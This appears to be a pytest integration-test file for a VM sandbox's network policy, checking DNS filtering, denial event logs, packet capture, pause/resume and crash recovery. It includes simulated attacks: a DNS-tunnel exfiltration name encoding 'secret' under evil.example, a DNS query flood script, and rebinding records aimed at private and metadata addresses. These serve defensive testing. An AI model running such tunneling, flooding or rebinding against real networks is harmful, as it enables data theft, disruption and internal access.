"""What a guest learns of names, what is told of its denials, and its packets, on a real machine."""

from __future__ import annotations

import asyncio
import json
import signal
from collections.abc import Iterator
from typing import Any

import dns.rcode
import pytest

from tests import internet as nets
from tests.internet import Internet
from tests.serving import Api, Ground, opened_ground
from tests.tcg import test_network as connected
from vmpool.network.addressing import GATEWAY

pytestmark = connected.pytestmark

internet, ground, server, api = (
    connected.internet,
    connected.ground,
    connected.server,
    connected.api,
)

POLICY = {
    "mode": "restricted",
    "allow": [{"domain": "*.example.org", "protocol": "tcp", "ports": [nets.PORT]}],
}

RESOLVE = """
import socket, sys
for name in sys.argv[1:]:
    try:
        print(name, sorted({each[4][0] for each in socket.getaddrinfo(name, 1)}))
    except OSError as err:
        print(name, err.errno, err.strerror)
"""

ASK = """
import socket, sys
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.settimeout(3)
one.connect((sys.argv[1], 53))
for text in sys.argv[2:]:
    one.send(bytes.fromhex(text))
    try:
        print(one.recv(4096).hex())
    except OSError as err:
        print(type(err).__name__)
"""

FLOOD = """
import os, socket, time
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
wire = bytes.fromhex("{wire}")
end = time.monotonic() + 3
while time.monotonic() < end:
    one.sendto(wire, ("169.254.77.1", 53))
"""


def question(name: str, kind: int) -> str:
    """Return a question's bytes, as hexadecimal digits."""
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    header = b"\x12\x34\x01\x00\x00\x01" + bytes(6)
    return (header + labels + b"\0" + kind.to_bytes(2) + b"\0\x01").hex()


async def python(api: Api, sandbox: str, program: str, *words: str) -> list[str]:
    """Run a program in the guest; return the lines that it printed."""
    argv = ["python3", "-c", program, *words]
    done = await api.execute(sandbox, argv=argv, timeout=120)
    assert done.get("exit_code") == 0, repr(done)  # what is no text, pytest shortens
    return str(done["stdout"]).splitlines()


async def denials(api: Api, sandbox: str, after: str = "0") -> list[dict[str, Any]]:
    """Return what is told of the sandbox's denials."""
    path = f"/v1/sandboxes/{sandbox}/network/events?after={after}"
    async with api.session.get(path) as response:
        assert response.status == 200
        lines = [json.loads(line) async for line in response.content]
    assert lines[0]["type"] == "lost"
    return lines[1:]


async def test_a_name_opens_what_it_leads_to_and_nothing_else(api: Api, internet: Internet) -> None:
    internet.zone.add(
        "www.example.org 5 IN CNAME edge.cdn.example.", f"edge.cdn.example 5 IN A {nets.ALLOWED}"
    )
    async with api.sandbox(network=POLICY) as sandbox:
        reached = connected.attempt
        assert "refused" in await reached(api, sandbox, nets.ALLOWED, "early")
        assert await python(api, sandbox, RESOLVE, "www.example.org") == [
            f"www.example.org ['{nets.ALLOWED}']"
        ]
        assert await reached(api, sandbox, "www.example.org", "hi") == f"answer {nets.HOME} hi"
        assert "refused" in await reached(
            api, sandbox, "www.example.org", "other port", port=nets.ALSO
        )
        assert "refused" in await reached(api, sandbox, nets.OTHER, "other address")
        told = await denials(api, sandbox)
    named = {(each["destination"], each["port"], each["name"]) for each in told}
    assert (nets.ALLOWED, nets.ALSO, "www.example.org") in named
    assert (nets.OTHER, nets.PORT, None) in named
    assert nets.OTHER not in {to for _, to, _ in internet.heard}


async def test_nothing_leaves_for_a_denied_name(api: Api, internet: Internet) -> None:
    before = len(internet.zone.asked)
    tunnel = "c2VjcmV0" * 7 + ".evil.example"
    async with api.sandbox(network=POLICY) as sandbox:
        lines = await python(api, sandbox, RESOLVE, "evil.example", tunnel)
        assert [line.split()[:2] for line in lines] == [["evil.example", "-2"], [tunnel, "-2"]]
        asked = [question(tunnel, kind) for kind in (1, 16, 28, 65, 255)]
        answers = await python(api, sandbox, ASK, str(GATEWAY), *asked)
        assert {bytes.fromhex(each)[3] & 15 for each in answers} == {dns.rcode.NXDOMAIN}
        [elsewhere] = await python(api, sandbox, ASK, nets.WORLD, question("evil.example", 16))
        assert elsewhere.endswith("Error")
        told = await denials(api, sandbox)
    assert len(internet.zone.asked) == before
    names = {each["name"] for each in told if each["rule"] == "dns-name"}
    assert names == {"evil.example", tunnel.lower()}
    assert (nets.WORLD, 53) in {(each["destination"], each["port"]) for each in told}


@pytest.mark.parametrize("mode", ["restricted", "open"])
async def test_a_name_is_not_bound_anew_to_something_inside(
    api: Api, internet: Internet, mode: str
) -> None:
    inside = (nets.PRIVATE, nets.METADATA, str(GATEWAY), "127.0.0.1")
    for number, address in enumerate(inside):
        internet.zone.add(f"rebind{number}.example.org 0 IN A {address}")
    async with api.sandbox(network=POLICY | {"mode": mode}) as sandbox:
        names = [f"rebind{number}.example.org" for number in range(len(inside))]
        lines = await python(api, sandbox, RESOLVE, *names)
        assert [line.split()[1][0] for line in lines] == ["-"] * len(inside)
        assert "answer" not in await connected.attempt(api, sandbox, nets.PRIVATE, "inside")
        told = await denials(api, sandbox)
    rebound = {each["destination"] for each in told if each["rule"] == "dns-rebinding"}
    assert rebound == set(inside)
    assert nets.PRIVATE not in {to for _, to, _ in internet.heard}


async def test_what_a_guest_sends_is_captured(api: Api, internet: Internet) -> None:
    async with api.sandbox(network=POLICY) as sandbox:
        path = f"/v1/sandboxes/{sandbox}/network/capture"
        async with api.session.get(path, params={"seconds": "60"}) as response:
            assert response.status == 200
            file = await response.content.readexactly(24)
            trying = asyncio.ensure_future(python(api, sandbox, RESOLVE, "evil.example"))
            while b"\x04evil\x07example" not in file:
                file += await response.content.readany()
            await trying
    assert file[:4] == b"\x4d\x3c\xb2\xa1"


async def test_a_paused_sandbox_has_its_names_and_its_events_again(
    api: Api, internet: Internet
) -> None:
    internet.zone.add(f"www.example.org 5 IN A {nets.ALLOWED}")
    async with api.sandbox(network=POLICY) as sandbox:
        await python(api, sandbox, RESOLVE, "www.example.org", "evil.example")
        *_, last = await denials(api, sandbox)
        assert (await api.call("POST", f"/v1/sandboxes/{sandbox}/pause", json={}))[0] == 200
        assert last in await denials(api, sandbox)
        assert (await api.call("POST", f"/v1/sandboxes/{sandbox}/resume", json={}))[0] == 200
        assert "refused" in await connected.attempt(api, sandbox, nets.ALLOWED, "too early")
        assert (await connected.attempt(api, sandbox, "www.example.org", "hi")).startswith("answer")
        told = await denials(api, sandbox, last["cursor"])
    assert (nets.ALLOWED, nets.PORT) in {(each["destination"], each["port"]) for each in told}


async def test_a_flood_of_questions_is_the_floods_own_trouble(api: Api, internet: Internet) -> None:
    internet.zone.add(f"www.example.org 5 IN A {nets.ALLOWED}")
    async with api.sandbox(network=POLICY) as noisy, api.sandbox(network=POLICY) as quiet:
        flood = FLOOD.format(wire=question("evil.example", 16))
        flooding = asyncio.ensure_future(python(api, noisy, flood))
        answer = f"www.example.org ['{nets.ALLOWED}']"
        while not flooding.done():
            assert await python(api, quiet, RESOLVE, "www.example.org") == [answer]
        await flooding
        assert await python(api, noisy, RESOLVE, "www.example.org") == [answer]
        rules = [each["rule"] for each in await denials(api, noisy)]
        assert not await denials(api, quiet)
    assert "dns-rate" in rules


@pytest.fixture
def other_ground() -> Iterator[Ground]:
    """A state directory of a second server at home, with addresses of its own."""
    with opened_ground("images", "snapshots") as opened:
        settings = f'[network]\ndns = ["{nets.WORLD}"]\nrange = "10.214.0.0/16"\n'
        (opened.state / "vmpool.toml").write_text(settings)
        yield opened


async def test_names_are_answered_by_the_server_after_a_crash(
    other_ground: Ground, internet: Internet
) -> None:
    internet.zone.add(f"www.example.org 5 IN A {nets.ALLOWED}")
    first = connected.start(other_ground, internet)
    try:
        await asyncio.to_thread(first.__enter__)
        async with internet.client(first) as api:
            body = {"template": "base", "network": POLICY}
            status, made = await api.call("POST", "/v1/sandboxes", json=body)
            assert status == 201, made
            await python(api, made["id"], RESOLVE, "www.example.org")
    finally:
        await asyncio.to_thread(first.stop, signal.SIGKILL)
    second = connected.start(other_ground, internet)
    try:
        await asyncio.to_thread(second.__enter__)
        async with internet.client(second) as api:
            answer = await connected.attempt(api, made["id"], "www.example.org", "hi")
            assert answer.startswith("answer")
            assert "refused" in await connected.attempt(api, made["id"], nets.OTHER, "no")
            told = await denials(api, made["id"])
            assert nets.OTHER in {each["destination"] for each in told}
            assert (await api.call("DELETE", f"/v1/sandboxes/{made['id']}"))[0] == 204
    finally:
        await asyncio.to_thread(second.stop)
